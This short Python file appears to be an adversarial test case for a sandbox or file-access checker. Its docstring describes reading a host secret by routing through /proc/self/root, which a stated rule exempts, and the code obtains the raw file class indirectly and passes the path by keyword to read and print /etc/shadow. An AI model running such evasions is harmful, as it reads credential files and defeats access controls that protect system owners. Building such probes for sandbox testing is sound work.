"""Host secret through /proc/self/root (the documented rule exempts 'self'), passed by keyword."""

with open(__file__, "rb") as me:
    Stream = type(me.raw)

options = {"file": "/proc/self/root/etc/shadow", "mode": "r"}
print(Stream(**options).read().decode(errors="replace"))
